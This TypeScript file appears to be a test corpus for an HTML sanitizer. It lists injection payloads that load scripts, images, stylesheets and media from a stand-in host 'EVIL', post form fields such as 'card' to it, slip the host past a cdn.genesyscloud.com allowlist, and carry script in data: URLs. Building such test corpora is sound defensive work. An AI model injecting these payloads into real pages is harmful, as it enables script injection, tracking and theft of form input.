import type { Family } from './card.ts';
import { cross } from './card.ts';
import { CARRIERS } from './carriers.ts';

const RESOURCES: Family = {
  family: 'resource',
  cards: [
    ...CARRIERS.map(([before, after]) => `${before}<img src="https://EVIL/a.png">${after}`),
    '<script src="https://EVIL/a.js"></script>', '<svg><script href="https://EVIL/a.js"></script></svg>', '<svg><script xlink:href="https://EVIL/a.js"></script></svg>',
    '<img srcset="/ok.png 1x, https://EVIL/a.png 9x" sizes="100vw">', '<img srcset="https://EVIL/a.png">', '<img srcset=" ,https://EVIL/a.png 100w" sizes="100vw">', '<picture><source srcset="https://EVIL/a.png"><img src="/ok.png"></picture>',
    '<picture><source media="all" srcset="https://EVIL/a.png 1x, https://EVIL/b.png 2x"><img></picture>', '<input type="image" src="https://EVIL/a.png">', '<video poster="https://EVIL/a.png"></video>',
    '<video src="https://EVIL/a.mp4" autoplay></video>', '<audio src="https://EVIL/a.mp3" autoplay></audio>', '<video autoplay><source src="https://EVIL/a.mp4"></video>',
    '<video src="/ok.mp4"><track src="https://EVIL/a.vtt" default kind="captions"></video>', '<body background="https://EVIL/a.png">', '<table background="https://EVIL/a.png"><tr><td>a</td></tr></table>',
    '<table><tr><td background="https://EVIL/a.png">a</td></tr></table>', '<link rel="stylesheet" href="https://EVIL/a.css">', '<link rel="alternate stylesheet" title="a" href="https://EVIL/a.css">',
    '<link rel="  STYLESHEET " href="https://EVIL/a.css">', '<link href="https://EVIL/a.css" type="text/css" rel="x stylesheet">', '<link rel="stylesheet" href="data:text/css,p{color:red}">', '<image src="https://EVIL/a.png">',
    '<img src="data:image/svg+xml,<svg/>">', '<img src="blob:https://EVIL/a">', '<img src="filesystem:https://EVIL/a">', '<a href="/ok" ping="https://EVIL/a">a</a>', '<a href="/ok" ping="/ok https://EVIL/a">a</a>',
    '<img src=//EVIL/a.png>', '<img lowsrc="https://EVIL/a.png">', '<img dynsrc="https://EVIL/a.png">', '<p><img alt=">" src="https://EVIL/a.png"></p>', '<img src="https://EVIL/a.png" src="/ok.png">', '<img src=`https://EVIL/a.png` srcset="https://EVIL/b.png 1x">',
    '<bgsound src="https://EVIL/a.mp3">', '<html manifest="https://EVIL/a.appcache">', '<img attributionsrc="https://EVIL/a" src="/ok.png">',
  ],
};

const RELATIONS = ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'preload', 'icon', 'shortcut icon', 'apple-touch-icon', 'manifest', 'import', 'subresource', 'next prefetch', 'compression-dictionary', 'x-unknown'];
const KINDS = ['script', 'style', 'image', 'font', 'fetch', 'track', 'audio', 'video', 'document', 'worker', ''];

const HINTS: Family = {
  family: 'hint',
  cards: [
    ...RELATIONS.map((rel) => `<link rel="${rel}" href="https://EVIL/a">`),
    ...KINDS.map((kind) => `<link rel="preload" as="${kind}" href="https://EVIL/a" crossorigin>`),
    '<link rel="preload" as="image" imagesrcset="https://EVIL/a.png 1x" href="/ok.png">', '<link rel="modulepreload" as="worker" href="https://EVIL/a.js">', '<p><link rel="preconnect" href="//EVIL"></p>',
  ],
};

const ADDRESSES = [
  '//EVIL/a', '\\\\EVIL\\a', '/\\EVIL/a', 'https:EVIL/a', 'https:/EVIL/a', 'https:\\\\EVIL/a', 'HTTPS://EVIL/a', 'http://EVIL/a', ' https://EVIL/a', 'ht\ntps://EVIL/a', 'https://EVIL:443/a', 'https://cdn.genesyscloud.com@EVIL/a',
  'https://cdn.genesyscloud.com.EVIL/a', 'https://cdn.genesyscloud.com%2eEVIL/a', 'https://EVIL%23.cdn.genesyscloud.com/a', 'https://EVIL#cdn.genesyscloud.com', 'https://EVIL?cdn.genesyscloud.com',
  'https://ＥVIL.EVIL/a', 'https://EVIL。/a', '/\t/EVIL/a', '/\n/EVIL/a', '&#47;&sol;EVIL/a', '&bsol;&bsol;EVIL/a', '///EVIL/a', '//EVIL', 'https://a:b@EVIL/a', 'https://evil\u00ad.EVIL/a',
  'https://cdn.genesyscloud.com:8443/EVIL', 'http://cdn.genesyscloud.com/EVIL', 'ftp://EVIL/a', 'wss://EVIL/a', 'https://genesyscloud.com/EVIL', 'https://a.cdn.genesyscloud.com/EVIL', 'https://[::1]/EVIL', 'https://2130706433/EVIL', 'https://0x7f.1/EVIL',
];

const HOSTS: Family = {
  family: 'address',
  cards: cross(ADDRESSES, [(url: string) => `<script src="${url}"></script>`, (url: string) => `<img src="${url}">`], (url, load) => load(url)),
};

const DATA_URLS: Family = {
  family: 'data-url',
  cards: [
    '<script src="data:text/javascript,MARK"></script>', '<script src="data:,MARK"></script>', '<script src=" DATA:text/javascript;base64,Y29uc29sZS5sb2coMSk="></script>', '<a href="data:text/html,<script>MARK</script>">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+" download>a</a>', '<form action="data:text/html,a"><button>a</button></form>', '<iframe src="data:text/html,<script>MARK</script>"></iframe>', '<object data="data:text/html,<script>MARK</script>"></object>',
    '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'MARK\'/>">', '<link rel="stylesheet" href="data:text/css,@import url(https://EVIL/a.css)">', '<svg><use href="data:image/svg+xml,<svg id=\'a\'/>#a"/></svg>',
    '<svg><image href="data:image/png;base64,AA=="/></svg>', '<video src="data:video/mp4,a"></video>', '<audio src="data:audio/wav,a" autoplay></audio>', '<img srcset="data:image/png;base64,AA== 1x">', '<input type="image" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    '<link rel="icon" href="data:,">', '<a href="blob:https://EVIL/a">a</a>', '<svg><a href="data:text/html,a"><text>a</text></a></svg>', '<link rel="manifest" href="data:application/json,{}">', '<track src="data:text/vtt,a">', '<a href="filesystem:https://EVIL/a">a</a>',
  ],
};

const FORMS: Family = {
  family: 'form',
  cards: [
    '<form action="https://EVIL/a"><input name="card"><button>Send</button></form>', '<form action="//EVIL/a" method="post"><button>a</button></form>', '<form id="f"></form><button form="f" formaction="https://EVIL/a">a</button>',
    '<form><input type="submit" formaction="https://EVIL/a"></form>', '<form><input type="image" src="/ok.png" formaction="https://EVIL/a"></form>', '<form action="https://EVIL/a" method="get"><input type="submit"></form>',
    '<form action="https://EVIL/a" enctype="multipart/form-data" method="post"><button>a</button></form>', '<form action="\\\\EVIL/a"><button>a</button></form>', '<form action="/ok"><button formaction="//EVIL/a" formmethod="post">a</button></form>',
    '<table><form action="https://EVIL/a"><tr><td><button>a</button></td></tr></form></table>', '<form><form action="https://EVIL/a"><button>a</button></form>', '<svg><foreignObject><form action="https://EVIL/a"><button>a</button></form></foreignObject></svg>',
    '<button form="x" formaction="https://EVIL/a">a</button><form id="x"></form>', '<form action="https://EVIL/a" target="_blank"><button>a</button></form>', '<form action="http://EVIL/a"><button>a</button></form>', '<div><template shadowrootmode="open"><form action="https://EVIL/a"><button>a</button></form></template></div>',
  ],
};

export const LOAD_ATTACKS: readonly Family[] = [RESOURCES, HINTS, HOSTS, DATA_URLS, FORMS];
